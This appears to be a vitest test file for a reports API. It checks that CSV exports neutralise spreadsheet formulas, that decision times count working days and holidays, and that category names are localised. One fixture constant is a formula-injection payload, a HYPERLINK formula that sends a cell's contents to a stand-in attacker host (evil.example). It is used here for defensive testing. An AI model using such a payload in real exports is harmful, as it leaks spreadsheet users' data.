/**
 * Reports that tell the truth (issue 17, item 6): names rather than codes, in the request's
 * language; decision times in working days; CSV a spreadsheet cannot run as formulas.
 */
import { parse as parseCsv } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { makeUser } from '../helpers/accounts.ts'
import { json, testApp } from '../helpers/app.ts'
import { day, hour } from '../helpers/clock.ts'
import {
  makeArea,
  makeBooking,
  makeDepartment,
  makeFacility,
  makePilot,
  unique,
} from '../helpers/fixtures.ts'

// Friday 2031-11-07, 10:00 in St. Petersburg; the following Monday is one working day later.
const friday = Date.parse('2031-11-07T10:00:00+03:00')
const period = `from=${new Date(friday - day).toISOString()}&to=${new Date(friday + 4 * day).toISOString()}`
const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'

/** A department whose one request, made at `at` (a Friday), was rejected `days` later with `note`. */
async function decidedOverWeekend(
  db: Awaited<ReturnType<typeof testApp>>['db'],
  title: string,
  note: string,
  at = friday,
  days = 3,
) {
  const department = await makeDepartment(db)
  const area = await makeArea(db, { departmentId: department.id })
  const site = await makeFacility(db, { areaId: area.id, capacity: 10 })
  const company = await makeUser(db, 'company')
  const pilot = await makePilot(db, company.organisationId as string, { title })
  const booking = await makeBooking(db, {
    pilotId: pilot.id,
    facilityId: site.id,
    start: new Date(at + 20 * day),
    end: new Date(at + 20 * day + hour),
    departmentIds: [department.id],
    at: new Date(at),
  })
  await db
    .updateTable('reviews')
    .set({ decision: 'rejected', decided_at: new Date(at + days * day), note })
    .where('booking_id', '=', booking)
    .execute()
  return { department, pilot }
}

describe('reports that tell the truth', () => {
  it('neutralises a company text that would run as a formula in the rejections CSV', async () => {
    const { app, db } = await testApp({ now: new Date(friday + 4 * day) })
    const viewer = await makeUser(db, 'official', { sessionAt: new Date(friday + 4 * day) })
    const title = `@SUM(1+1) ${unique('pilot')}`
    await decidedOverWeekend(db, title, formula)
    const response = await app.request(`/api/reports/rejections?${period}&format=csv`, {
      headers: viewer.headers,
    })
    expect(response.status).toBe(200)
    const text = await response.text()
    const records = parseCsv(text, { columns: true }) as Record<string, string>[]
    const row = records.find((r) => r.pilot === `'${title}`)
    expect(row?.reason).toBe(`'${formula}`)
    // No cell of the file starts with a formula character: each line's cells, unquoted.
    const all = parseCsv(text) as string[][]
    for (const cell of all.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    // JSON keeps the text as written: only the spreadsheet file is neutralised.
    const body = await json(
      await app.request(`/api/reports/rejections?${period}`, { headers: viewer.headers }),
    )
    expect(body.items.find((r: { pilot: string }) => r.pilot === title)?.reason).toBe(formula)
  })

  it('counts a decision from Friday to Monday as one working day', async () => {
    const { app, db } = await testApp({ now: new Date(friday + 4 * day) })
    const viewer = await makeUser(db, 'official', { sessionAt: new Date(friday + 4 * day) })
    const { department } = await decidedOverWeekend(db, unique('Weekend'), 'Not here')
    const body = await json(
      await app.request(`/api/reports/decision-times?${period}`, { headers: viewer.headers }),
    )
    expect(body.items.find((d: { departmentId: string }) => d.departmentId === department.id)).toMatchObject({
      decisions: 1,
      medianHours: 72,
      medianWorkingDays: 1,
    })
  })

  it('leaves a public holiday out of the working days', async () => {
    // Friday 2032-03-05 to Tuesday 2032-03-09, over the weekend and the holiday of Monday 8 March.
    const from = Date.parse('2032-03-05T10:00:00+03:00')
    const { app, db } = await testApp({ now: new Date(from + 5 * day) })
    const viewer = await makeUser(db, 'official', { sessionAt: new Date(from + 5 * day) })
    const { department } = await decidedOverWeekend(db, unique('Holiday'), 'Not here', from, 4)
    const ask = async () => {
      const query = `from=${new Date(from).toISOString()}&to=${new Date(from + 5 * day).toISOString()}`
      const body = await json(
        await app.request(`/api/reports/decision-times?${query}`, { headers: viewer.headers }),
      )
      return body.items.find((d: { departmentId: string }) => d.departmentId === department.id)
    }
    expect((await ask()).medianWorkingDays).toBe(2)
    await db
      .insertInto('public_holidays')
      .values({ day: '2032-03-08' })
      .onConflict((c) => c.doNothing())
      .execute()
    try {
      expect((await ask()).medianWorkingDays).toBe(1)
    } finally {
      await db.deleteFrom('public_holidays').where('day', '=', '2032-03-08').execute()
    }
  })

  it('names clusters and categories in the language asked for, not by their codes', async () => {
    const { app, db } = await testApp({ now: new Date(friday + 4 * day) })
    const viewer = await makeUser(db, 'official', { sessionAt: new Date(friday + 4 * day) })
    const department = await makeDepartment(db)
    const area = await makeArea(db, { departmentId: department.id })
    const site = await makeFacility(db, { areaId: area.id, capacity: 10 })
    const company = await makeUser(db, 'company') // its organisation is in the cluster `ict`
    const pilot = await makePilot(db, company.organisationId as string, { category: 'lighting' })
    await makeBooking(db, {
      pilotId: pilot.id,
      facilityId: site.id,
      start: new Date(friday),
      end: new Date(friday + hour),
      state: 'approved',
      departmentIds: [department.id],
    })
    const ask = async (path: string, language: string) => {
      const headers = new Headers(viewer.headers)
      headers.set('accept-language', language)
      const response = await app.request(`/api/reports/${path}?${period}`, { headers })
      expect(response.headers.get('content-language')).toBe(language)
      return (await json(response)).items as { id: string; name: string | null; pilots: number }[]
    }
    expect((await ask('pilots-by-cluster', 'ru')).find((c) => c.id === 'ict')?.name).toBe('ИКТ')
    expect((await ask('pilots-by-cluster', 'en')).find((c) => c.id === 'ict')?.name).toBe(
      'Information and communication technology',
    )
    expect((await ask('pilots-by-category', 'ru')).find((c) => c.id === 'lighting')?.name).toBe('Освещение')
  })
})
